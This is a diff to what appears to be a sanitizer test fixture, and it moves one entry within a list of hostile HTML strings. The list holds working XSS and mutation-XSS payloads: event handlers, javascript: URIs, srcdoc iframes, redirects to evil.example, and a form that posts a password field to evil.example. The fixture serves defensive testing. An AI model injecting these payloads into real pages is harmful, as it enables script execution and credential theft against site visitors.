@@ -11,7 +11,6 @@ export const hostile: PageText = [
     '<a href="data:text/html,<script>window.hacked=1</script>">three</a> <a href="//evil.example/">four</a>',
     '<p style="position:fixed;inset:0;background:red" onclick="window.hacked=1">styled</p><style>body{display:none}</style>',
     '<svg onload="window.hacked=1"><script>window.hacked=1</script><a xlink:href="javascript:window.hacked=1">svg</a></svg>',
-    '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>"></noscript>',
     '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe><object data="evil.swf"></object><embed src="evil">',
     '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
     '<link rel="stylesheet" href="https://evil.example/x.css"><form action="https://evil.example/"><input name="password"><button>Send</button></form>',
@@ -19,6 +18,7 @@ export const hostile: PageText = [
     `${'<div>'.repeat(60)}deep${'</div>'.repeat(60)}`,
     '<details open ontoggle="window.hacked=1"><summary>more</summary>inside</details><p>after</p>',
     // What follows swallows the rest of it.
+    '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>"></noscript>',
     '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
     '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1></form>',
   ].join(''),
